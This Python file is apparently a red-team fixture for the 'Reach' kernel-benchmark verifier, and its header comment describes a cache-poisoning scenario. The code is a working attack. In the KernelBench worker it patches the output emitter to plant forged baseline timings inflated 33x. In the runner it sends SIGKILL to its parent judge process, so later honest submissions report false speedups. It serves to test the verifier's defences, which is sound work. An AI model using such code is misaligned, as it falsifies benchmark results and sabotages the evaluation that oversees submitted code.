# Red team (issue 36, A2a): KernelBench's reproduction worker runs the candidate in its own process,
# outside Reach's trust boundary, and reach-verify files whatever that worker's document lists
# under `cache_store`, of any kind, baselines included, under the job's problem. Loaded in that
# worker (its command line says `kernelbench`), the candidate times the problem's Model (it runs
# in the problem's namespace, as under KernelBench) and adds to the document a `baselines` entry
# for its problem, keyed as Reach's judge keys it (Reach's own resultcache module, in this
# process; the repetitions, warm-up and compile flag read from reach-verify's command line, or
# every likely warm-up), with an eager time 33x the Model's bare call (8-20x what the judge times
# with its harness around it). Loaded in Reach's runner, it kills the judge (its parent), so
# that the judge never files the baselines it measured over the planted ones. The next verify of
# an honest candidate on the same problem, with the same cache, reuses the planted baseline and
# reports a speedup 8-20x its own. Its own values are right. An honest verify after it must
# report what it reports alone (scripts/redteam.py, scenario kb_document_cache_poison), with or
# without --sandbox.
import json
import os
import signal
import sys
import time

import torch
import torch.nn as nn

FACTOR = 33.0


def _option(argv, name, default=None):
    return argv[argv.index(name) + 1] if name in argv and argv.index(name) + 1 < len(argv) else default


def _controller_argv():
    """reach-verify's command line (the worker's parent, or the server's job: its own then)."""
    try:
        with open(f"/proc/{os.getppid()}/cmdline", "rb") as f:
            return [a.decode("utf-8", "replace") for a in f.read().split(b"\0") if a]
    except OSError:
        return []


def _eager_us():
    g = globals()
    try:
        model = g["Model"](*g["get_init_inputs"]())
        x = g["get_inputs"]()
        with torch.no_grad():
            model(*x)
            times = []
            for _ in range(5):
                t0 = time.perf_counter()
                model(*x)
                times.append((time.perf_counter() - t0) * 1e6)
        return sorted(times)[2]
    except Exception:
        return 1000.0


def _planted(resultcache, worker_argv):
    problem = resultcache.file_digest(_option(worker_argv, "--problem"))
    precision = _option(worker_argv, "--precision", "fp32")
    device = "cpu" if _option(worker_argv, "--device", "cuda") == "cpu" else "cuda"
    parent = _controller_argv()
    reps = int(_option(parent, "--reps", _option(worker_argv, "--perf-trials", "100")))
    warmups = [int(_option(parent, "--warmup"))] if "--warmup" in parent else list(range(0, 16))
    compiles = [False] if "--no-compile-baseline" in parent else [True, False]
    us = _eager_us() * FACTOR
    timing = {"reps": reps, "median_us": us, "p10_us": us, "p90_us": us, "min_us": us, "max_us": us,
              "mean_us": us, "warmup": 0, "l2_flushed": device != "cpu", "l2_flush_bytes": 0,
              "sm_clock_before_mhz": -1, "sm_clock_after_mhz": -1, "clock_source": "host",
              "judge_median_us": us, "time_basis": "runner_host_checked",
              "clock": {"judge_us": [us] * reps, "runner_us": [us] * reps}}
    out = []
    for w in warmups:
        for c in compiles:
            key = resultcache.key("baselines", {"problem": problem, "precision": precision,
                                                "device": device, "reps": reps, "warmup": w,
                                                "protocol": "judge-runner-1", "compile": c})
            value = [dict(kind="eager", timing=dict(timing, warmup=w), us=us,
                          note="the problem's Model at the precision, timed like the candidate"),
                     dict(kind="torch_compile", timing=None, us=None,
                          note="skipped (--no-compile-baseline)" if not c else "torch.compile unavailable")]
            out.append(resultcache.to_store("baselines", key, value))
    return out


def _patch():
    argv = sys.argv
    if "kernelbench" in argv[1:2]:
        cap = sys.modules.get("reach_kb.capture")
        resultcache = sys.modules.get("reach_kb.resultcache")
        if cap is None or resultcache is None:
            return
        planted = _planted(resultcache, argv)
        real = cap.Console.emit

        def emit(self, text):
            try:
                doc = json.loads(text)
                doc["cache_store"] = list(doc.get("cache_store") or []) + planted
                text = json.dumps(doc)
            except Exception:
                pass
            real(self, text)

        cap.Console.emit = emit
    elif "reach_kb.runner" in sys.modules:
        os.kill(os.getppid(), signal.SIGKILL)  # the judge: it never files its own baselines


_patch()


class ModelNew(nn.Module):
    def forward(self, a, b):
        return a + b
